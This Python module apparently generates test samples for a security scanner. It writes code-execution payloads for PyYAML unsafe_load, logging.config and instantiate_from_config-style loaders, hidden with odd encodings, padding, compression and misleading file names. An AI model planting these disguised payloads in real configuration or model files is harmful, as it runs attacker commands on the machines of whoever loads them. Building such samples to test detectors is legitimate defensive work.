"""Configurations and templates in unusual encodings, behind blanks, and under names that say nothing."""
import codecs
import gzip
import io
import json
import tarfile

from ..registry import Attack, PYTHON, SHELL, kind

YAML = f"!!python/object/apply:os.system ['{SHELL}']\n"
READ_YAML = 'import yaml; yaml.unsafe_load(open(path, "rb"))'


@kind('YAML: encodings, directives and names')
def yamls():
    spelt = {
        'plain': YAML,
        'directive': f"%TAG !p! tag:yaml.org,2002:python/object/\n---\nx: !p!apply:os.system ['{SHELL}']\n",
        'verbatim': f"x: !<tag:yaml.org,2002:python/object/apply:os.system> ['{SHELL}']\n",
        'percent': f"x: !!pyth%6Fn/object/apply:os.system ['{SHELL}']\n",
        'percent-all': f"x: !<tag:yaml.org,2002:%70%79thon/object/apply:os.system> ['{SHELL}']\n",
        'prefix': f"%TAG ! tag:yaml.org,2002:pyt\n---\nx: !hon/object/apply:os.system ['{SHELL}']\n",
        'anchor': f"a: &a ['{SHELL}']\nx: !!python/object/apply:os.system\n  <<: {{args: *a}}\n",
        'key': f"? !!python/object/apply:os.system ['{SHELL}']\n: 1\n",
        'late': f"# {'x' * 300_000}\n{YAML}",
    }
    encoded = {
        'utf8': lambda text: text.encode(), 'bom': lambda text: codecs.BOM_UTF8 + text.encode(),
        'utf16': lambda text: text.encode('utf-16'), 'utf16be': lambda text: codecs.BOM_UTF16_BE + text.encode('utf-16-be'),
    }
    for shape, text in spelt.items():
        for encoding in ('utf8', 'utf16') if shape != 'plain' else encoded:
            for name in ('hparams.yaml', 'notes.txt', 'model.dat', 'model.cfg2', 'params', 'weights.md'):
                yield Attack(name, encoded[encoding](text), loader=READ_YAML)


@kind('YAML: packed')
def packed():
    for name in ('c.yaml', 'c.conf', 'c.settings'):
        yield Attack(f'{name}.gz', gzip.compress(YAML.encode()), loader='import yaml, gzip; yaml.unsafe_load(gzip.open(path))')
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode='w') as tar:
            info = tarfile.TarInfo(name)
            info.size = len(YAML)
            tar.addfile(info, io.BytesIO(YAML.encode()))
        yield Attack('m.tar', buffer.getvalue(), loader='import yaml, tarfile; t = tarfile.open(path); yaml.unsafe_load(t.extractfile(t.next()))')


@kind('logging: sections and mappings')
def logs():
    ini = f'[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=({PYTHON},)\n'
    kwargs = ini.replace('args=(', 'args=()\nkwargs=dict(stream=').replace(',)\n', ')\n')
    inherited = ini.replace('args=(', 'x=(') + f'[DEFAULT]\nargs=({PYTHON},)\n'
    spread = ini.replace('args=(', 'ARGS : (\n  ')
    joined = ini.replace(f'args=({PYTHON},)', 'args=%(a)s%(b)s') + f'a=({PYTHON[:12]}\nb={PYTHON[12:]},)\n'
    for text in (ini, kwargs, inherited, spread, joined):
        for name in ('logging.ini', 'logging.conf', 'logging.cfg', 'log.properties', 'logging', 'logs.txt'):
            yield Attack(name, text.encode(), loader='import logging.config; logging.config.fileConfig(path)')
    utf16 = ini.encode('utf-16')
    yield Attack('logging.ini', utf16, loader='import logging.config; logging.config.fileConfig(path, encoding="utf-16")')
    tree = {'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': SHELL}}, 'root': {'handlers': ['h']}}
    nested = {'version': 1, 'formatters': {'f': {'()': 'subprocess.getoutput', 'cmd': SHELL}}, 'handlers': {'h': {'class': 'logging.StreamHandler', 'formatter': 'f'}}, 'root': {'handlers': ['h']}}
    for config in (tree, nested):
        for name in ('logging.json', 'log.yaml', 'config.json', 'logging.conf', 'logs.txt', 'logging'):
            yield Attack(name, json.dumps(config).encode(), loader='import logging.config, json; logging.config.dictConfig(json.load(open(path)))')
        yield Attack('logging.json', json.dumps(config).encode('utf-16'), loader='import logging.config, json; logging.config.dictConfig(json.loads(open(path, "rb").read()))')


@kind('objects: kinds of text that name them')
def objects():
    # What Stable Diffusion's instantiate_from_config does (ldm/util.py). Hydra of today refuses the standard library.
    build = """import importlib
def build(config):
    if isinstance(config, dict) and 'target' in config:
        module, name = config['target'].rsplit('.', 1)
        getattr(importlib.import_module(module), name)(**config.get('params', {}))
    for value in config.values() if isinstance(config, dict) else config if isinstance(config, list) else []:
        build(value)
"""
    target = {'target': 'subprocess.getoutput', 'params': {'cmd': SHELL}}
    for config in (target, {'model': {'layers': [{'a': 1}, target]}}, {'x': {'target': 'timeit.timeit', 'params': {'stmt': PYTHON, 'number': 1}}}):
        text = json.dumps(config)
        for name in ('c.json', 'c.txt', 'c', 'c.jsonl', 'c.model'):
            yield Attack(name, text.encode(), loader=build + 'import json\nbuild(json.loads(open(path, "rb").read()))')
            yield Attack(name, text.encode('utf-16'), loader=build + 'import json\nbuild(json.loads(open(path, "rb").read()))')
        yield Attack('c.json', text.replace('target', '\\u0074arget').encode(), loader=build + 'import json\nbuild(json.load(open(path)))')
    for quoted in ('"target"', 'target', '"\\u0074arget"', "'target'"):
        for shape in (f"[m]\n{quoted} = 'subprocess.getoutput'\nparams.cmd = '{SHELL}'\n", f"m.{quoted} = 'subprocess.getoutput'\nm.params = {{cmd = '{SHELL}'}}\n"):
            yield Attack('c.toml', shape.encode(), loader=build + 'import tomllib\nbuild(tomllib.load(open(path, "rb")))')
